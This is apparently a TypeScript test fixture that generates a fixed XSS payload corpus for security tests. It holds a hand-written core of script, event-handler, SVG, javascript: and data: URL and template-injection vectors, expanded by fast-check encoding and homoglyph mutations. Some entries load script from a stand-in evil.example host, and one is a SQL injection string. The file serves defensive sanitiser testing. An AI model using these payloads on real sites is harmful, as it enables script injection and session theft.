import * as fc from 'fast-check'
import { SIZES } from '../../helpers/depth'

/**
 * The XSS payload corpus of security suite 4: a hand-written core of classic vectors, multiplied by
 * fast-check mutations and compositions (fixed seed, so every run sees the same list) to at least
 * XSS_CORPUS_SIZE distinct strings. Any feature with a text, rich-text or URL sink can reuse it.
 * The list is built in a fixed order, so CI's 300 are the first 300 of the deep run's 1,500: the
 * whole hand-written core and the first mutations.
 */

export const XSS_CORPUS_SIZE = SIZES.xssPayloads
const SEED = 20_250_603

const js = 'javascript:alert(1)'

/** Scripts, handlers, SVG/MathML, styles and breakouts: what an HTML sink must never run. */
const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(document.cookie)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<script>/*</script><script>alert(1)//*/</script>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  "<img src='x' onerror='alert(1)'>",
  '<img src=x onerror=alert`1`>',
  '<img/src/onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=# onmouseover="alert(1)">',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" />',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  '<math href="javascript:alert(1)">click</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<video poster=javascript:alert(1)//></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<div style="background-image:url(javascript:alert(1))">',
  '<div style="width:expression(alert(1))">',
  '<div style="behavior:url(xss.htc)">',
  '<div style="-moz-binding:url(//evil.example/xss.xml#xss)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="session=x">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<form><button formaction=javascript:alert(1)>go</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=javascript&colon;alert(1)>click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a target=_blank rel=opener href=//evil.example>x</a>',
  '<table background="javascript:alert(1)">',
  '<td background="javascript:alert(1)">',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<x onclick=alert(1)>click',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<frameset onload=alert(1)>',
  '<applet code="javascript:alert(1)"></applet>',
  '<bgsound src="javascript:alert(1)">',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" onfocus="alert(1)" autofocus="',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<div><svg><style><img src=x onerror=alert(1)></style></svg></div>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<a href="#" onclick="alert(1)">x</a>',
  '<button popovertarget=x>x</button><div id=x popover onbeforetoggle=alert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src=x onerror=\\u0061lert(1)>',
  '<svg><script>&#97;lert(1)</script></svg>',
  '<svg><script href=data:,alert(1) />',
]

/** Addresses: the schemes a link or src must never carry, in their disguises. */
const urls = [
  js,
  'JAVASCRIPT:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  '\njavascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u001fjavascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'java\u0000script:alert(1)',
  'jav\u0009ascript:alert(1)',
  'javascript\t:alert(1)',
  'javascript :alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript&#0000058alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106&#0000097vascript:alert(1)',
  'javascript%3Aalert(1)',
  '%6Aavascript:alert(1)',
  'javascript://%0Aalert(1)',
  'javascript://comment%0aalert(1)',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>',
  'javascript:alert(String.fromCharCode(88,83,83))',
  'javascript:void(0)',
  'javascript:',
  'javascript:;',
  'jAvAsCrIpT&colon;alert&lpar;1&rpar;',
  'ｊａｖａｓｃｒｉｐｔ:alert(1)',
  'javascrіpt:alert(1)', // Cyrillic і
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  ' data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/javascript,alert(1)',
  'data:,alert(1)',
  'da\tta:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'VBScript:MsgBox("XSS")',
  'vb\tscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/uuid',
  'filesystem:https://evil.example/temporary/x',
  'view-source:https://evil.example',
  'jar:https://evil.example!/',
  'about:blank',
  'chrome://settings',
  'intent://evil#Intent;scheme=javascript;end',
  'ftp://evil.example/x',
  'ws://evil.example',
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'http:evil.example',
  'https:/\\evil.example',
  'https://evil.example/"><script>alert(1)</script>',
  "https://evil.example/'onmouseover='alert(1)",
  'https://evil.example/#<img src=x onerror=alert(1)>',
  'https://evil.example/?q=<script>alert(1)</script>',
  'http://javascript:alert(1)@evil.example',
  'https://user:pass@evil.example',
  'https://xn--80ak6aa92e.com',
  'https://аррӏе.com',
  'https://evil.example\u2028javascript:alert(1)',
  'mailto:a@b.example?body=<script>alert(1)</script>',
  'mailto:javascript:alert(1)',
  'mailto:"><script>alert(1)</script>',
  'tel:+44<script>alert(1)</script>',
  'tel:javascript:alert(1)',
  'sms:+44?body=<script>',
  '#javascript:alert(1)',
  '/javascript:alert(1)',
  'x:javascript:alert(1)',
  'www.evil.example/<script>alert(1)</script>',
  '@"><script>alert(1)</script>',
  '@javascript:alert(1)',
]

/** Templates, markdown and the odd characters that break naive escaping. */
const textual = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{% raw %}{{alert(1)}}{% endraw %}',
  '[[alert(1)]]',
  '{{$on.constructor("alert(1)")()}}',
  '`${alert(1)}`',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '![img](x" onerror="alert(1))',
  '[x]( javascript:alert(1) )',
  '<javascript:alert(1)>',
  '[a](<javascript:alert(1)>)',
  '[ref]: javascript:alert(1)',
  '```html\n<script>alert(1)</script>\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253E',
  '＜script＞alert(1)＜/script＞',
  '‹script›alert(1)‹/script›',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\u202e>tpircs/<)1(trela>tpircs<',
  'ｏｎｅｒｒｏｒ＝alert(1)',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\ud800<script>alert(1)</script>',
  '<script>\udfffalert(1)</script>',
  '\ud83d',
  '\udc00\ud800',
  '𝓪𝓵𝓮𝓻𝓽(1)',
  'Zalgo ̷̧̛͔̺̍̃t̸̡̺͎̏e̵̹̓x̴̜̍t̶̺̓',
  '',
  ' ',
  '\t\n\r',
  '\u0000',
  '\u200b\u200c\u200d\ufeff',
  '<',
  '>',
  '"',
  "'",
  '&',
  '&amp;',
  '<>',
  '</',
  '<!--',
  'alert(1)',
  'onerror=alert(1)',
  'style="x:expression(alert(1))"',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '<b>bold</b>',
  '<u onclick=alert(1)>under</u>',
  "Robert'); DROP TABLE events;--",
  '=HYPERLINK("javascript:alert(1)")',
  '<'.repeat(5_000),
  `${'A'.repeat(10_000)}<script>alert(1)</script>`,
  `<img src=x onerror=alert(1) ${'a'.repeat(5_000)}>`,
  `${'javascript:'.repeat(500)}alert(1)`,
  '\u0000'.repeat(300),
  '\ud800'.repeat(200),
]

export const XSS_CORE: readonly string[] = [...markup, ...urls, ...textual]

// ── Mutations ────────────────────────────────────────────────────────────────────────────────────

const CONTROL = [
  '\t',
  '\n',
  '\r',
  '\f',
  '\v',
  ' ',
  '\u0000',
  '\u0001',
  '\u0008',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u200b',
  '\u2028',
  '\u2029',
  '\u3000',
  '\ufeff',
]
const BREAKOUTS = [
  '"',
  "'",
  '">',
  "'>",
  '`',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '}}',
  '%>',
  '*/',
  '\\',
  ')',
]
const HOMOGLYPHS: Record<string, string[]> = {
  a: ['а', 'ɑ', 'ａ'],
  c: ['с', 'ϲ', 'ｃ'],
  e: ['е', 'ｅ'],
  i: ['і', 'ｉ', 'ı'],
  o: ['о', 'ο', 'ｏ'],
  p: ['р', 'ｐ'],
  s: ['ѕ', 'ｓ'],
  t: ['ｔ'],
  '<': ['＜', '‹', '〈', '﹤'],
  '>': ['＞', '›', '〉', '﹥'],
  ':': ['：', '꞉', '∶'],
  '/': ['／', '∕'],
}
const TAGS = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'math',
  'style',
  'link',
  'meta',
  'base',
  'form',
  'video',
  'body',
  'details',
  'a',
  'input',
  'marquee',
  'xss',
]
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerenter',
  'onauxclick',
]

type Mutation = (s: string) => string

/** Flips the case of each letter by the given bit pattern. */
const recase =
  (bits: number[]): Mutation =>
  (s) =>
    [...s]
      .map((ch, i) => ((bits[i % bits.length] ?? 0) ? ch.toUpperCase() : ch.toLowerCase()))
      .join('')

const insertAt =
  (position: number, insert: string): Mutation =>
  (s) => {
    const at = s.length === 0 ? 0 : position % (s.length + 1)
    return s.slice(0, at) + insert + s.slice(at)
  }

/** Splits the scheme word (javascript, data, vbscript) or a tag name with a control character. */
const splitWord =
  (position: number, ch: string): Mutation =>
  (s) =>
    s.replace(/javascript|vbscript|data|script|onerror|onload/i, (word) =>
      insertAt(position % word.length || 1, ch)(word),
    )

const ENTITY_FORMS: ((code: number) => string)[] = [
  (c) => `&#${c};`,
  (c) => `&#${c}`,
  (c) => `&#x${c.toString(16)};`,
  (c) => `&#X${c.toString(16).toUpperCase()}`,
  (c) => `&#${String(c).padStart(7, '0')};`,
  (c) => `&#x${c.toString(16).padStart(6, '0')}`,
  (c) => `%${c.toString(16).padStart(2, '0')}`,
  (c) => `\\u${c.toString(16).padStart(4, '0')}`,
  (c) => `\\x${c.toString(16).padStart(2, '0')}`,
]
const NAMED: Record<string, string> = {
  ':': '&colon;',
  '(': '&lpar;',
  ')': '&rpar;',
  '<': '&lt;',
  '>': '&gt;',
  '/': '&sol;',
  '\t': '&Tab;',
  '\n': '&NewLine;',
  '"': '&quot;',
  "'": '&apos;',
}

/** Encodes characters chosen by the pattern, each in one of the entity or escape forms. */
const encode =
  (picks: number[], form: number): Mutation =>
  (s) =>
    [...s]
      .map((ch, i) => {
        if (!((picks[i % picks.length] ?? 0) % 3 === 0)) return ch
        if (form % 4 === 3 && NAMED[ch]) return NAMED[ch]
        return ENTITY_FORMS[form % ENTITY_FORMS.length]!(ch.codePointAt(0) ?? 0)
      })
      .join('')

const homoglyph =
  (picks: number[]): Mutation =>
  (s) =>
    [...s]
      .map((ch, i) => {
        const options = HOMOGLYPHS[ch.toLowerCase()]
        const pick = picks[i % picks.length] ?? 0
        return options && pick % 4 === 0 ? options[pick % options.length]! : ch
      })
      .join('')

const wrap =
  (before: string, after: string): Mutation =>
  (s) =>
    `${before}${s}${after}`
const swapTag =
  (tag: string): Mutation =>
  (s) =>
    s.replace(/<(\/?)(script|img|svg|iframe|a|div)\b/gi, `<$1${tag}`)
const swapHandler =
  (handler: string): Mutation =>
  (s) =>
    s.replace(/\bon[a-z]+(?==)/gi, handler)
const spaces =
  (ch: string): Mutation =>
  (s) =>
    s.replace(/ /g, ch === ' ' ? '/' : ch)
const compose =
  (other: string, glue: string): Mutation =>
  (s) =>
    `${s}${glue}${other}`
const prefixScheme =
  (scheme: string): Mutation =>
  (s) =>
    `${scheme}${s}`
const truncate =
  (at: number): Mutation =>
  (s) =>
    s.length > 4 ? s.slice(0, Math.max(2, at % s.length)) : s
const double = (): Mutation => (s) => s.replace(/[<>]/g, (c) => c + c)

const int = fc.nat({ max: 10_000 })
const bits = fc.array(fc.nat({ max: 1 }), { minLength: 1, maxLength: 16 })
const picks = fc.array(fc.nat({ max: 11 }), { minLength: 1, maxLength: 16 })
const core = fc.constantFrom(...XSS_CORE)

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  bits.map(recase),
  fc.tuple(int, fc.constantFrom(...CONTROL)).map(([p, c]) => insertAt(p, c)),
  fc.tuple(int, fc.constantFrom(...CONTROL)).map(([p, c]) => splitWord(p, c)),
  fc.tuple(picks, fc.nat({ max: 20 })).map(([p, f]) => encode(p, f)),
  picks.map(homoglyph),
  fc
    .tuple(fc.constantFrom(...BREAKOUTS), fc.constantFrom('', ...BREAKOUTS))
    .map(([b, a]) => wrap(b, a)),
  fc.constantFrom(...TAGS).map(swapTag),
  fc.constantFrom(...HANDLERS).map(swapHandler),
  fc.constantFrom(' ', '\t', '\n', '\f', '\u000c', '\u00a0', '/**/').map(spaces),
  fc
    .tuple(core, fc.constantFrom('', ' ', '\n', '\u0000', '"><', '</p>'))
    .map(([o, g]) => compose(o, g)),
  fc
    .constantFrom(
      'javascript:',
      ' JaVaScRiPt:',
      'data:text/html,',
      'vbscript:',
      'java\tscript:',
      '\u0001javascript:',
      'https://x.example/',
      '//',
      '/',
    )
    .map(prefixScheme),
  int.map(truncate),
  fc.constant(double()),
)

const mutated = fc
  .tuple(core, fc.array(mutation, { minLength: 1, maxLength: 3 }))
  .map(([base, steps]) => steps.reduce((s, step) => step(s), base))

const build = (): readonly string[] => {
  const out = new Set<string>(XSS_CORE)
  let seed = SEED
  while (out.size < XSS_CORPUS_SIZE) {
    for (const payload of fc.sample(mutated, { seed, numRuns: 1_000 })) {
      if (out.size >= XSS_CORPUS_SIZE) break
      out.add(payload)
    }
    seed += 1
  }
  return [...out]
}

/** XSS_CORPUS_SIZE distinct payloads (300 in CI, 1,500 deep), the same list on every run. */
export const XSS_CORPUS: readonly string[] = build()

/** Tag names a payload tries to create (`<img`, `< svg`, `</script`), lower-cased. */
export const tagsIn = (payload: string) =>
  new Set([...payload.matchAll(/<\s*\/?\s*([a-z][\w:-]*)/gi)].map((m) => m[1]!.toLowerCase()))
